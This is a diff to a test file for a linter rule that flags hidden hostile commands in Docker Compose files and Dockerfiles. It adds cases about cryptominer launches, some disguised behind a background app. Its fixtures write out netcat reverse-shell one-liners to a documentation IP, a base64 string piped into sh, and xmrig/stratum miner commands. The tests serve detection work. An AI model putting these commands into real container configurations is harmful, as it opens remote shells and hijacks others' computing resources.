@@ -18,6 +18,8 @@ describe('command-hidden-code', () => {
     `entrypoint: ["sh", "-c", "«echo ZWNobyBoZWxsbwo= | base64 -d | sh»"]`,
     'healthcheck: { test: "«nc -e /bin/sh 203.0.113.7 4444»" }',
     'post_start: [{ command: ["sh", "-c", "«nc -e /bin/sh 203.0.113.7 4444»"] }]',
+    'command: «xmrig -o pool.example.com:443»',
+    'command: sh -c "app & «/tmp/a -o stratum+tcp://pool.example.com:3333»"',
   ])('reports %s', (options) => expectMarks(rule, 'compose.yaml', service(options)));
 
   it('reports the command of docker run', () =>
@@ -29,8 +31,20 @@ describe('command-hidden-code', () => {
     'command: sh -c "echo aGVsbG8K | base64 -d > /greeting && exec app"',
     'command: python3 -c "import socket; socket.create_connection((\'db\', 5432))"',
     'command: ["app", "--socket", "/run/app.sock"]',
-    'command: xmrig -o pool.example.com:443',
+    'command: xmrig --version',
   ])('accepts %s', (options) => expectMarks(rule, 'compose.yaml', service(options)));
+
+  it.each([
+    [
+      'compose.yaml',
+      'services:\n  miner:\n    image: ghcr.io/acme/app:1.4\n    command: xmrig -o pool.example.com:443\n',
+    ],
+    [
+      'compose.yaml',
+      'services:\n  a:\n    image: ghcr.io/acme/xmrig:6.22\n    command: xmrig -o pool.example.com:443\n',
+    ],
+    ['mining/compose.yaml', service('command: xmrig -o pool.example.com:443')],
+  ])('accepts what mines openly in %s: %j', (path, text) => expectMarks(rule, path, text));
 
   it.each(CODES)('reports code of another language in a Dockerfile as well: %s', (code) =>
     expectMarks(obfuscated, 'Dockerfile', `FROM debian:12\nCMD «${code}»\n`),
